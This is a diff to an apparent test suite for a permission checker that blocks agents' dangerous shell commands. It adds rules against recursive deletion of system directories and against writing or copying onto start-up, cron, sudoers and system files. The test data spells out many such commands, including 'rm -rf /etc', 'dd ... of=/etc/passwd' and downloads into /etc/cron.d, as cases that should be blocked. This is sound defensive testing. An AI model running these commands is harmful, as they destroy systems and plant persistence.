@@ -30,7 +30,14 @@ describe('defaultOracles', () => {
     const first = defaultOracles();
     expect(first.map((o) => o.name)).toEqual(['permission-check']);
     expect(defaultOracles()[0]).not.toBe(first[0]);
-    expect(DEFAULT_PERMISSION_RULES.deny?.map((r) => r.name)).toEqual(['rm-root-or-home', 'wipe-block-device', 'write-startup-or-system-file', 'force-push-without-lease']);
+    expect(DEFAULT_PERMISSION_RULES.deny?.map((r) => r.name)).toEqual([
+      'rm-root-or-home',
+      'rm-system-directory',
+      'wipe-block-device',
+      'write-startup-or-system-file',
+      'copy-onto-startup-or-system-file',
+      'force-push-without-lease',
+    ]);
   });
 
   it.each([
@@ -268,6 +275,141 @@ describe('defaultOracles', () => {
       expect(verdicts(command)).toEqual([]);
     },
   );
+
+  it.each<[string, JsonValue]>([
+    ['Bash', { command: 'rm -rf /etc' }],
+    ['Bash', { command: 'rm -rf /usr/*' }],
+    ['Bash', { command: 'rm -r /var/' }],
+    ['Bash', { command: 'sudo rm -rf /boot /tmp/x' }],
+    ['Bash', { command: 'rm /lib64 -rf' }],
+    ['Bash', { command: 'rm -r -f /opt/**' }],
+    ['Bash', { command: '/bin/rm --recursive "/srv"' }],
+    ['Bash', { command: 'rm -rf /etc/.' }],
+    ['Bash', { command: 'rm -rf /tmp/../usr' }],
+    ['Bash', { command: 'cd /etc && rm -rf *' }],
+    ['Bash', { command: 'cd /var; rm -rf ./*' }],
+    ['Bash', { command: 'find /boot -delete' }],
+    ['Bash', { command: 'find /var -type f -exec rm -f {} +' }],
+    ['Bash', { command: 'cd /usr && find . -delete' }],
+    ['Bash', { command: 'rm -rf /Library /System' }],
+    ['Bash', { command: 'rm -rf /e*' }],
+    ['Bash', { command: 'rm -rf /{etc,usr}/' }],
+    ['Bash', { command: 'rm -rf "/$D"' }],
+    ['Bash', { command: 'rm -rf /*/*' }],
+    ['shell', { command: ['rm', '-rf', '/sbin'] }],
+    ['shell', { command: ['rm', '-rf', '*'], workdir: '/proc' }],
+  ])('denies %s %j (a top-level system directory)', (tool, toolInput) => {
+    expect(verdictsFor(tool, toolInput)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-system-directory', type: 'security-violation' })]);
+  });
+
+  it.each<[JsonValue, string]>([
+    ['/usr', 'rm -rf *'],
+    ['/etc', 'rm -r -f .'],
+    ['/srv', 'rm --recursive ./'],
+    ['/opt', 'find -delete'],
+  ])("denies at the session's directory %j: %s (a top-level system directory)", (cwd, command) => {
+    expect(verdictsAt(cwd, 'Bash', { command })).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-system-directory' })]);
+  });
+
+  it.each([
+    'rm -rf /var/tmp/build',
+    'rm -rf /opt/app/cache',
+    'rm -rf /usr/local/lib/node_modules/x',
+    'rm -rf /tmp/*',
+    'rm /etc/x.lock',
+    'rm -f /var/*.pid',
+    'rm -rf /etcetera /variant',
+    'find /var/log -name "*.gz" -delete',
+    'find /usr -name "*.h"',
+    'ls -R /usr',
+    'cd /var/tmp && rm -rf *',
+    'grep -r x /etc',
+  ])('leaves %s alone (below a system directory, or not recursive)', (command) => {
+    expect(verdicts(command)).toEqual([]);
+  });
+
+  it('leaves rm -rf * alone at a directory below a system one', () => {
+    expect(verdictsAt('/var/tmp/build', 'Bash', { command: 'rm -rf *' })).toEqual([]);
+    expect(verdictsAt('/opt/app', 'Bash', { command: 'rm -rf cache' })).toEqual([]);
+  });
+
+  it.each([
+    'cp x ~/.bashrc',
+    'cp -f x "$HOME/.zshrc"',
+    'mv x ~/.profile',
+    'mv x ~/.profile -f',
+    'install -m 644 x /etc/cron.d/job',
+    'install x /etc/cron.d/job -m 644',
+    'sudo install -o root x /etc/sudoers.d/agent',
+    'ln -sf x ~/.zshrc',
+    'ln -s /tmp/x /home/u/.bash_profile',
+    'cp x /etc',
+    'cp x.conf /etc/nginx/ 2>/dev/null',
+    'cp -t /etc/cron.d job',
+    'cp job -t /etc/cron.d',
+    'mv --target-directory=/etc/profile.d x.sh',
+    'cp /tmp/evil/.bashrc ~/',
+    'cd ~ && cp x .bashrc',
+    'cd /etc && cp /tmp/x hosts',
+    'rsync -a x/ /etc/nginx',
+    'scp host:rc ~/.bashrc',
+  ])('denies copying onto a start-up or system file: %s', (command) => {
+    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'copy-onto-startup-or-system-file', type: 'security-violation' })]);
+  });
+
+  it.each([
+    "sed -i 's/x/y/' ~/.bashrc",
+    "perl -pi -e 's/x/y/' ~/.bashrc",
+    'curl -fsSLo /etc/cron.d/job https://x.example/job',
+    'curl --output ~/.zshrc https://x.example/rc',
+    'wget -qO /etc/profile.d/x.sh https://x.example/x.sh',
+    "sed -i.bak -e 's/x/y/' /etc/hosts",
+    "sed -ni '1p' ~/.profile",
+    "sed --in-place 's/x/y/' /etc/hosts",
+    "sed 's/x/y/' ~/.zshrc -i",
+    "sed -e 's/x/y/' notes.txt /etc/hosts -i",
+    'dd if=x of=/etc/passwd',
+    'dd of=~/.bashrc if=/tmp/x',
+    'truncate -s0 /etc/hosts',
+    'truncate -s 0 ~/.bashrc',
+    'cd ~ && echo x | tee -a .bashrc',
+    'cd /etc && dd if=/tmp/x of=passwd',
+    "cd /etc && sed -i 's/a/b/' hosts",
+  ])('denies writing a start-up or system file: %s (other writers)', (command) => {
+    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'write-startup-or-system-file', type: 'security-violation' })]);
+  });
+
+  it("reads a copy's destination at the session's directory", () => {
+    expect(verdictsAt('/home/u', 'Bash', { command: 'cp /tmp/x .bashrc' })).toEqual([expect.objectContaining({ rule: 'copy-onto-startup-or-system-file' })]);
+    expect(verdictsAt('/etc', 'Bash', { command: 'truncate -s0 hosts' })).toEqual([expect.objectContaining({ rule: 'write-startup-or-system-file' })]);
+    expect(verdictsAt('/home/u/proj', 'Bash', { command: 'cp /tmp/x .bashrc' })).toEqual([]);
+  });
+
+  it.each([
+    'cp ~/.bashrc backup/',
+    'cp ~/.bashrc ~/.bashrc.bak',
+    'cp /etc/hosts ./hosts.txt',
+    'cp -r /etc/nginx ./nginx-conf -v',
+    'mv ~/.bashrc.new ./bashrc',
+    'ln -s ~/.bashrc dotfiles/bashrc',
+    'install -m 755 build/app ~/bin/app',
+    'cp notes.txt ~',
+    'cp x ~/.bashrc.d/y',
+    "sed 's/x/y/' ~/.bashrc",
+    "sed -n '1,5p' /etc/hosts",
+    "sed -e 's/x/y/' /etc/hosts > out.txt",
+    "sed -i 's/x/y/' src/app.ts",
+    'dd if=/etc/hosts of=hosts.bak',
+    'truncate -s0 build.log',
+    'chmod 644 ~/.bashrc',
+    'chown root /etc/hosts',
+    'cd /etc && cat hosts',
+    'rsync -avt /etc/nginx/ backup/',
+    'curl -o out.html https://x.example/etc/hosts',
+    "perl -ne 'print' /etc/hosts",
+  ])('leaves %s alone (reads a start-up or system file, or writes elsewhere)', (command) => {
+    expect(verdicts(command)).toEqual([]);
+  });
 
   it('denies writing a start-up file in shell tools only (a README may show the command)', () => {
     expect(verdictsFor('Write', { file_path: 'README.md', content: "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc" })).toEqual([]);
